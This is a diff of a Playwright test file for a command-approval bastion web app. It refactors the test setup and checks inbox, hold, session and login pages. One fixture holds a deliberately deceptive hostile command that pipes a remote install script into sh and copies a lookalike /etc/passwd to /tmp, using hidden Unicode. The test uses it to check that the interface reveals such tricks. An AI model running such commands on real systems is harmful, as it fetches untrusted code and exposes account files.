@@ -5,59 +5,15 @@
 import { readdirSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { gzipSync } from 'node:zlib'
-import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { describe, expect, it } from 'vitest'
 import type { Waiting } from '../../src/approval/desk.ts'
-import { systemClock } from '../../src/core/clock.ts'
 import type { SessionRecord } from '../../src/core/session.ts'
-import { type RunningWeb, startWeb } from '../../src/web/server.ts'
 import { EXAMPLE_CAST } from '../web/example-cast.ts'
-import { LIMIT, newWorld, PEOPLE, type PersonName, type World } from '../web/world.ts'
-import { barriers, DARK, DESK, LOOKS, PHONE, picture, startChromium } from './parts.ts'
+import { LIMIT, PEOPLE } from '../web/world.ts'
+import { pagesUnderTest } from './pages-under-test.ts'
+import { barriers, DARK, DESK, LOOKS, PHONE, picture } from './parts.ts'
 
-let browser: Browser
-let world: World
-let web: RunningWeb
-let address: string
-/** Anything a page complains about: a refused script or style, a failed request, an exception. */
-let complaints: string[]
-
-beforeAll(async () => {
-  browser = await startChromium()
-})
-
-afterAll(() => browser.close())
-
-beforeEach(async () => {
-  complaints = []
-  world = await newWorld(systemClock)
-  web = await startWeb(world.services, { host: '127.0.0.1', port: 0 })
-  // The port is known only now, and everything that compares origins asks for it anew.
-  world.services.publicUrl.port = String(web.port)
-  address = world.services.publicUrl.origin
-})
-
-afterEach(async () => {
-  for (const context of browser.contexts()) await context.close()
-  await web.close()
-  await world.close()
-})
-
-async function open(who: PersonName, path: string, look: BrowserContextOptions = DESK): Promise<Page> {
-  const context = await browser.newContext(look)
-  const page = await context.newPage()
-  page.on('console', (message) => {
-    if (message.type() === 'error' || message.type() === 'warning') complaints.push(message.text())
-  })
-  page.on('pageerror', (error) => complaints.push(String(error)))
-  page.on('request', (request) => {
-    if (!request.url().startsWith(address)) complaints.push(`asks another host: ${request.url()}`)
-  })
-  world.provider.who = who
-  await page.goto(`${address}/auth/start?return=${encodeURIComponent(path)}`)
-  await page.waitForSelector('.live-live')
-  return page
-}
+const here = pagesUnderTest()
 
 const SCREEN = [
   'deploy@web-1:/srv/data$ ls -l',
@@ -69,15 +25,15 @@ const SCREEN = [
 ]
 
 async function aliceAsks(): Promise<{ session: SessionRecord; waiting: Waiting }> {
-  const session = await world.openSession(PEOPLE.alice, { screen: SCREEN })
-  return { session, waiting: await world.hold(session, { screen: SCREEN }) }
+  const session = await here.world.openSession(PEOPLE.alice, { screen: SCREEN })
+  return { session, waiting: await here.world.hold(session, { screen: SCREEN }) }
 }
 
 /** Several requests of several people, one of them written to deceive. */
 async function busyDay(): Promise<Waiting> {
-  const bobs = await world.openSession(PEOPLE.bob, { target: 'web-2' })
+  const bobs = await here.world.openSession(PEOPLE.bob, { target: 'web-2' })
   const text = 'sudo systemctl restart nginx'
-  await world.hold(bobs, {
+  await here.world.hold(bobs, {
     text,
     analysis: {
       effects: ['privilege', 'write'],
@@ -95,9 +51,9 @@ async function busyDay(): Promise<Waiting> {
       ],
     },
   })
-  const daves = await world.openSession(PEOPLE.dave, { kind: 'exec', address: '10.20.3.7' })
+  const daves = await here.world.openSession(PEOPLE.dave, { kind: 'exec', address: '10.20.3.7' })
   const pipe = 'curl -s https://get.example.test/install.sh | sh\u200b -s -- --\u202eetomer\u202c\ncp /etc/pаsswd /tmp/'
-  await world.hold(daves, {
+  await here.world.hold(daves, {
     text: pipe,
     action: { kind: 'exec', assurance: 'inferred' },
     analysis: {
@@ -137,8 +93,8 @@ async function busyDay(): Promise<Waiting> {
       ],
     },
   })
-  const decided = await world.hold(daves, { text: 'rm /var/log/nginx/error.log.1' })
-  await world.desk.decide(decided.hold.id, PEOPLE.erin, {
+  const decided = await here.world.hold(daves, { text: 'rm /var/log/nginx/error.log.1' })
+  await here.world.desk.decide(decided.hold.id, PEOPLE.erin, {
     kind: 'reject',
     reason: 'Logrotate does this; wait until tonight.',
   })
@@ -149,28 +105,28 @@ async function busyDay(): Promise<Waiting> {
 describe('the inbox', () => {
   it.each(Object.entries(LOOKS))('is drawn without a complaint (%s)', async (name, look) => {
     await busyDay()
-    const page = await open('bob', '/', look)
+    const page = await here.open('bob', '/', look)
     await page.getByRole('heading', { name: /Yours to decide/ }).waitFor()
     expect(await page.title()).toBe('(2) Inbox · Sallyport')
     await picture(page, `inbox-${name}`)
     expect(await barriers(page)).toEqual([])
-    expect(complaints).toEqual([])
+    expect(here.complaints).toEqual([])
   })
 
   it('shows a new hold, and its end, without a reload', async () => {
-    const page = await open('bob', '/')
+    const page = await here.open('bob', '/')
     await page.getByText('Nothing waits').waitFor()
     await picture(page, 'inbox-empty')
     const { waiting } = await aliceAsks()
     await page.getByRole('link', { name: 'rm -rf /srv/data/old' }).waitFor({ timeout: 2000 })
     waiting.withdraw('pressed Ctrl-C')
     await page.getByText('withdrawn', { exact: true }).waitFor({ timeout: 2000 })
-    expect(complaints).toEqual([])
+    expect(here.complaints).toEqual([])
   })
 
   it('notifies, once it is asked to, of what is new to decide, and without its text', async () => {
-    const page = await open('bob', '/')
-    await page.context().grantPermissions(['notifications'], { origin: address })
+    const page = await here.open('bob', '/')
+    await page.context().grantPermissions(['notifications'], { origin: here.address })
     // The real notification is shown by the desktop, out of a test's sight: what it is given is kept beside it.
     await page.evaluate(`globalThis.notes = []
       globalThis.Notification = class extends Notification {
@@ -182,20 +138,20 @@ describe('the inbox', () => {
     expect(await notes()).toEqual([])
     await page.getByRole('button', { name: 'Notify me' }).click()
     await page.getByRole('button', { name: 'Notifications are on', pressed: true }).waitFor()
-    await world.hold(await world.openSession(PEOPLE.bob), { text: 'rm own' })
-    await world.hold(await world.openSession(PEOPLE.dave), { text: 'rm other', quorum: { count: 2 } })
+    await here.world.hold(await here.world.openSession(PEOPLE.bob), { text: 'rm own' })
+    await here.world.hold(await here.world.openSession(PEOPLE.dave), { text: 'rm other', quorum: { count: 2 } })
     await page.getByRole('link', { name: 'rm other' }).waitFor()
     expect(await notes()).toEqual(['Dave Dunn asks: A command on web-1 waits for a second person.'])
-    expect(complaints).toEqual([])
+    expect(here.complaints).toEqual([])
   })
 
   it('says that it is no longer live, and is live again after the bastion was away', async () => {
-    const page = await open('bob', '/')
+    const page = await here.open('bob', '/')
     await page.context().setOffline(true)
-    await web.close()
+    await here.stop()
     await page.getByText('Not live').waitFor()
     await page.context().setOffline(false)
-    web = await startWeb(world.services, { host: '127.0.0.1', port: Number(world.services.publicUrl.port) })
+    await here.start()
     // Restarting signs everybody out, and the page says so instead of showing what is no longer true.
     await page.getByRole('heading', { name: 'Sign in' }).waitFor()
     await picture(page, 'signed-out')
@@ -206,17 +162,17 @@ describe('the inbox', () => {
 describe('a hold', () => {
   it.each(Object.entries(LOOKS))('is drawn without a complaint (%s)', async (name, look) => {
     const waiting = await busyDay()
-    const page = await open('bob', `/holds/${waiting.hold.id}`, look)
+    const page = await here.open('bob', `/holds/${waiting.hold.id}`, look)
     await page.getByRole('button', { name: /Approve/ }).waitFor()
     await page.getByText('online: Bob Bell').waitFor()
     await picture(page, `hold-${name}`)
     expect(await barriers(page)).toEqual([])
-    expect(complaints).toEqual([])
+    expect(here.complaints).toEqual([])
   })
 
   it('fault 39: draws what a terminal would hide or obey', async () => {
     await busyDay()
-    const page = await open('bob', '/')
+    const page = await here.open('bob', '/')
     await page.getByRole('link', { name: /curl/ }).click()
     const exact = page.getByRole('region', { name: 'The exact text' })
     await exact.waitFor()
@@ -227,12 +183,12 @@ describe('a hold', () => {
       'curl -s https://get.example.test/install.sh',
     )
     expect(await barriers(page)).toEqual([])
-    expect(complaints).toEqual([])
+    expect(here.complaints).toEqual([])
   })
 
   it('is approved with the keyboard: the key only opens the question', async () => {
     const { waiting } = await aliceAsks()
-    const page = await open('bob', `/holds/${waiting.hold.id}`)
+    const page = await here.open('bob', `/holds/${waiting.hold.id}`)
     await page.getByRole('button', { name: /Approve/ }).waitFor()
     await page.keyboard.press('a')
     await page.getByRole('button', { name: 'Approve this command' }).waitFor()
@@ -240,25 +196,25 @@ describe('a hold', () => {
     await page.keyboard.type('space is needed')
     await picture(page, 'hold-confirm')
     expect(await barriers(page)).toEqual([])
-    expect((await world.desk.find(waiting.hold.id)).state.kind).toBe('pending')
+    expect((await here.world.desk.find(waiting.hold.id)).state.kind).toBe('pending')
     await page.keyboard.press('Control+Enter')
     await expect(waiting.outcome).resolves.toMatchObject({ kind: 'cleared' })
     await page.getByText('It is about to run.').waitFor()
-    await world.desk.approvals.running(waiting.hold.id)
+    await here.world.desk.approvals.running(waiting.hold.id)
     await page.getByText('It is running.').waitFor({ timeout: 2000 })
-    await world.desk.approvals.finished(waiting.hold.id, 0)
+    await here.world.desk.approvals.finished(waiting.hold.id, 0)
     await page.getByText('ended with exit status 0').waitFor({ timeout: 2000 })
     await picture(page, 'hold-done')
-    expect(complaints).toEqual([])
+    expect(here.complaints).toEqual([])
   })
 
   it.each([
     ['phone', { ...PHONE, colorScheme: 'dark' as const }],
     ['dark', DARK],
   ])('lets the length of a grant be chosen, and its session shows it (%s)', async (name, look) => {
-    const session = await world.openSession(PEOPLE.alice, { screen: SCREEN })
-    const waiting = await world.hold(session, { quorum: { grant: LIMIT } })
-    const page = await open('bob', `/holds/${waiting.hold.id}`, look)
+    const session = await here.world.openSession(PEOPLE.alice, { screen: SCREEN })
+    const waiting = await here.world.hold(session, { quorum: { grant: LIMIT } })
+    const page = await here.open('bob', `/holds/${waiting.hold.id}`, look)
     await page.getByRole('button', { name: /Approve/ }).click()
     await page.getByLabel('Now and again, in this session').check()
     await page.getByLabel(/minutes, 60 at most/).fill('20')
@@ -266,31 +222,31 @@ describe('a hold', () => {
     expect(await barriers(page)).toEqual([])
     await page.getByRole('button', { name: 'Approve it for 20 min' }).click()
     await expect(waiting.outcome).resolves.toMatchObject({ grant: { scope: 'session' } })
-    await page.goto(`${address}/sessions/${session.id}`)
+    await page.goto(`${here.address}/sessions/${session.id}`)
     await page.getByRole('heading', { name: 'Granted in this session' }).waitFor()
     await picture(page, `session-granted-${name}`)
     await page.getByRole('button', { name: 'Revoke' }).click()
-    await expect.poll(() => world.desk.grants.live()).toEqual([])
+    await expect.poll(() => here.world.desk.grants.live()).toEqual([])
   })
 
   it('is rejected with a reason on a phone', async () => {
     const { waiting } = await aliceAsks()
-    const page = await open('bob', `/holds/${waiting.hold.id}`, PHONE)
+    const page = await here.open('bob', `/holds/${waiting.hold.id}`, PHONE)
     await page.getByRole('button', { name: /Reject/ }).tap()
     await page.getByRole('button', { name: 'Reject this command' }).tap()
     // The browser itself asks for the reason; nothing was sent.
-    expect((await world.desk.find(waiting.hold.id)).state.kind).toBe('pending')
+    expect((await here.world.desk.find(waiting.hold.id)).state.kind).toBe('pending')
     await page.getByLabel(/Reason/).fill('Not in working hours.')
     await picture(page, 'hold-reject-phone')
     await page.getByRole('button', { name: 'Reject this command' }).tap()
     await expect(waiting.outcome).resolves.toMatchObject({ kind: 'refused', how: 'rejected' })
     await page.getByText('Rejected by Bob Bell: Not in working hours.').waitFor()
-    expect(complaints).toEqual([])
+    expect(here.complaints).toEqual([])
   })
 
   it('fault 43: offers its requester no button but to say why, and tells who decides', async () => {
     const { waiting } = await aliceAsks()
-    const page = await open('alice', `/holds/${waiting.hold.id}`)
+    const page = await here.open('alice', `/holds/${waiting.hold.id}`)
     await page.getByText('You asked for this command yourself; somebody else has to decide it.').waitFor()
     expect(await page.getByRole('button').allInnerTexts()).toEqual(['Say it'])
     await picture(page, 'hold-own')
@@ -300,33 +256,36 @@ describe('a hold', () => {
 describe('a session', () => {
   async function endedSession(): Promise<SessionRecord> {
     const startedAt = new Date(Date.now() - 400_000)
-    const session = await world.openSession(PEOPLE.alice, {
+    const session = await here.world.openSession(PEOPLE.alice, {
       startedAt,
       endedAt: new Date(Date.now() - 310_000),
       exitStatus: 0,
     })
-    const waiting = await world.hold(session, { screen: SCREEN })
-    await world.desk.decide(waiting.hold.id, PEOPLE.bob, { kind: 'approve', reason: 'space is needed for the release' })
-    await world.record(session, EXAMPLE_CAST)
+    const waiting = await here.world.hold(session, { screen: SCREEN })
+    await here.world.desk.decide(waiting.hold.id, PEOPLE.bob, {
+      kind: 'approve',
+      reason: 'space is needed for the release',
+    })
+    await here.world.record(session, EXAMPLE_CAST)
     return session
   }
 
   it.each(Object.entries(LOOKS))('plays its recording without a complaint (%s)', async (name, look) => {
     const session = await endedSession()
     // A dark page is played at a marker, so that more than the poster is seen to work.
-    const page = await open('carol', `/sessions/${session.id}`, look)
+    const page = await here.open('carol', `/sessions/${session.id}`, look)
     await page.locator('.ap-player').waitFor()
     await page.getByRole('button', { name: /approved by Bob Bell/ }).click()
     await expect.poll(() => page.locator('.ap-term').textContent()).toContain('approved by Bob Bell: space is needed')
     await picture(page, `session-${name}`)
     expect(await barriers(page)).toEqual([])
-    expect(complaints).toEqual([])
-    expect((await world.events('recording.viewed')).map(({ actorName }) => actorName)).toEqual(['Carol Cole'])
+    expect(here.complaints).toEqual([])
+    expect((await here.world.events('recording.viewed')).map(({ actorName }) => actorName)).toEqual(['Carol Cole'])
   })
 
   it('is loaded as a document of its own, whose policy alone allows what the player needs', async () => {
     const session = await endedSession()
-    const page = await open('carol', '/sessions')
+    const page = await here.open('carol', '/sessions')
     await picture(page, 'sessions')
     expect(await barriers(page)).toEqual([])
     const policies: string[] = []
@@ -340,28 +299,28 @@ describe('a session', () => {
     expect(policies).toHaveLength(2)
     expect(policies[0]).toContain("'wasm-unsafe-eval'")
     expect(policies[1]).not.toContain('wasm')
-    expect(complaints).toEqual([])
+    expect(here.complaints).toEqual([])
   })
 
   it('that is live can be reloaded and ended by its owner', async () => {
-    const session = await world.openSession(PEOPLE.alice)
-    await world.record(session, EXAMPLE_CAST.split('\n').slice(0, 6).join('\n'))
-    const page = await open('alice', `/sessions/${session.id}`)
+    const session = await here.world.openSession(PEOPLE.alice)
+    await here.world.record(session, EXAMPLE_CAST.split('\n').slice(0, 6).join('\n'))
+    const page = await here.open('alice', `/sessions/${session.id}`)
     await page.locator('.ap-player').waitFor()
     await page.getByRole('button', { name: 'Load what came since' }).click()
     await page.getByRole('button', { name: 'End this session…' }).click()
     await picture(page, 'session-live')
     await page.getByRole('button', { name: 'End it now' }).click()
     await page.getByText('ended by the bastion').waitFor()
-    expect(world.endings.get(session.id)).toContain('Alice Ames')
-    expect(complaints).toEqual([])
+    expect(here.world.endings.get(session.id)).toContain('Alice Ames')
+    expect(here.complaints).toEqual([])
   })
 })
 
 describe('letting a terminal in', () => {
   it.each(Object.entries(LOOKS))('takes the code and then the words (%s)', async (name, look) => {
-    const { attempt, confirm } = await world.login('WDJB-MJHT')
-    const page = await open('alice', '/d/WDJB-MJHT', look)
+    const { attempt, confirm } = await here.world.login('WDJB-MJHT')
+    const page = await here.open('alice', '/d/WDJB-MJHT', look)
     await page.getByRole('link', { name: 'Confirm the code' }).waitFor()
     await picture(page, `consent-code-${name}`)
     await confirm(PEOPLE.alice)
@@ -372,27 +331,27 @@ describe('letting a terminal in', () => {
     await page.getByText('Your terminal goes on').waitFor()
     await expect(attempt.outcome).resolves.toMatchObject({ kind: 'approved' })
     await picture(page, `consent-done-${name}`)
-    expect(complaints).toEqual([])
+    expect(here.complaints).toEqual([])
   })
 
   it('fault 7: warns when the terminal is somewhere else than the browser', async () => {
-    const { attempt } = await world.login('WDJB-MJHT', { address: '203.0.113.9', fingerprint: undefined })
-    const page = await open('alice', '/d/WDJB-MJHT')
+    const { attempt } = await here.world.login('WDJB-MJHT', { address: '203.0.113.9', fingerprint: undefined })
+    const page = await here.open('alice', '/d/WDJB-MJHT')
     await page.getByText('The terminal is at 203.0.113.9, this browser at 127.0.0.1.').waitFor()
     await picture(page, 'consent-elsewhere')
     await page.getByRole('button', { name: 'This was not me' }).click()
     await page.getByText('The terminal was refused').waitFor()
     await expect(attempt.outcome).resolves.toMatchObject({ kind: 'denied' })
-    expect((await world.events('login.denied'))[0]?.detail).toMatchObject({ notMe: true })
+    expect((await here.world.events('login.denied'))[0]?.detail).toMatchObject({ notMe: true })
   })
 
   it('refuses when somebody else confirmed the code, and says so for a code that is gone', async () => {
-    const { confirm } = await world.login('WDJB-MJHT')
+    const { confirm } = await here.world.login('WDJB-MJHT')
     await confirm(PEOPLE.dave)
-    const page = await open('alice', '/d/WDJB-MJHT')
+    const page = await here.open('alice', '/d/WDJB-MJHT')
     await page.getByText('Somebody else confirmed this code').waitFor()
     await picture(page, 'consent-other-person')
-    await page.goto(`${address}/d`)
+    await page.goto(`${here.address}/d`)
     await page.getByLabel('The code that your terminal shows').fill('bcdf-ghjk')
     await picture(page, 'consent-type')
     await page.keyboard.press('Enter')
@@ -400,10 +359,10 @@ describe('letting a terminal in', () => {
   })
 
   it('signs a stranger in first, and comes back to the code', async () => {
-    await world.login('WDJB-MJHT')
-    world.provider.who = 'alice'
-    const page = await (await browser.newContext(DESK)).newPage()
-    await page.goto(`${address}/d/WDJB-MJHT`)
+    await here.world.login('WDJB-MJHT')
+    here.world.provider.who = 'alice'
+    const page = await (await here.browser.newContext(DESK)).newPage()
+    await page.goto(`${here.address}/d/WDJB-MJHT`)
     await page.getByRole('link', { name: 'Confirm the code' }).waitFor()
     expect(new URL(page.url()).pathname).toBe('/d/WDJB-MJHT')
   })
@@ -415,7 +374,7 @@ describe('the other pages', () => {
     const scripts = readdirSync(folder).filter((name) => name.endsWith('.js'))
     const sizes = scripts.map((name) => gzipSync(readFileSync(join(folder, name))).length)
     expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(150_000)
-    const page = await open('bob', '/')
+    const page = await here.open('bob', '/')
     const asked: string[] = []
     page.on('request', (request) => asked.push(request.url()))
     await page.reload()
@@ -424,10 +383,10 @@ describe('the other pages', () => {
   })
 
   it('show a person their keys, and revoke one', async () => {
-    await world.bindKey(PEOPLE.alice, { lastUsedAt: new Date() })
-    await world.bindKey(PEOPLE.alice, { fingerprint: `SHA256:${'x'.repeat(43)}`, revokedAt: new Date() })
-    await world.openSession(PEOPLE.alice)
-    const page = await open('alice', '/me')
+    await here.world.bindKey(PEOPLE.alice, { lastUsedAt: new Date() })
+    await here.world.bindKey(PEOPLE.alice, { fingerprint: `SHA256:${'x'.repeat(43)}`, revokedAt: new Date() })
+    await here.world.openSession(PEOPLE.alice)
+    const page = await here.open('alice', '/me')
     await page.getByRole('button', { name: 'Revoke…' }).click()
     await picture(page, 'me')
     expect(await barriers(page)).toEqual([])
@@ -439,33 +398,34 @@ describe('the other pages', () => {
 
   it('revoke all keys of a person at once, and nobody else’s', async () => {
     const letters = ['a', 'b', 'c']
-    for (const letter of letters) await world.bindKey(PEOPLE.alice, { fingerprint: `SHA256:${letter.repeat(43)}` })
-    const daves = await world.bindKey(PEOPLE.dave, { fingerprint: `SHA256:${'d'.repeat(43)}` })
-    const page = await open('alice', '/me')
+    for (const letter of letters) await here.world.bindKey(PEOPLE.alice, { fingerprint: `SHA256:${letter.repeat(43)}` })
+    const daves = await here.world.bindKey(PEOPLE.dave, { fingerprint: `SHA256:${'d'.repeat(43)}` })
+    const page = await here.open('alice', '/me')
     await page.getByRole('button', { name: 'Revoke all 3 keys…' }).click()
     await picture(page, 'me-revoke-all')
     await page.getByRole('button', { name: 'Revoke all of them' }).click()
     await expect.poll(() => page.getByText('revoked', { exact: true }).count()).toBe(3)
-    expect(await world.store.keys.findLive(daves.fingerprint, new Date())).toBeDefined()
-    expect(complaints).toEqual([])
+    expect(await here.world.store.keys.findLive(daves.fingerprint, new Date())).toBeDefined()
+    expect(here.complaints).toEqual([])
   })
 
   it('show an auditor the log, older pages too', async () => {
-    const session = await world.openSession(PEOPLE.alice)
-    for (let index = 0; index < 60; index += 1) await world.hold(session, { text: `rm -rf /srv/data/old/${index}` })
+    const session = await here.world.openSession(PEOPLE.alice)
+    for (let index = 0; index < 60; index += 1)
+      await here.world.hold(session, { text: `rm -rf /srv/data/old/${index}` })
     await busyDay()
-    for (let index = 0; index < 60; index += 1) await world.hold(session, { text: `rm /srv/data/${index}` })
-    const page = await open('carol', '/audit')
+    for (let index = 0; index < 60; index += 1) await here.world.hold(session, { text: `rm /srv/data/${index}` })
+    const page = await here.open('carol', '/audit')
     await page.getByRole('table').waitFor()
     await picture(page, 'audit')
     expect(await barriers(page)).toEqual([])
     await page.getByRole('button', { name: 'Older events' }).click()
     await page.getByText('This is the beginning of the log.').waitFor()
-    expect(complaints).toEqual([])
+    expect(here.complaints).toEqual([])
   })
 
   it('work from the keyboard: the skip link is first, and every page names itself to who cannot see it', async () => {
-    const page = await open('carol', '/')
+    const page = await here.open('carol', '/')
     await page.keyboard.press('Tab')
     expect(await page.evaluate('document.activeElement.textContent')).toBe('Skip to the content')
     await page.getByRole('link', { name: 'Audit' }).click()
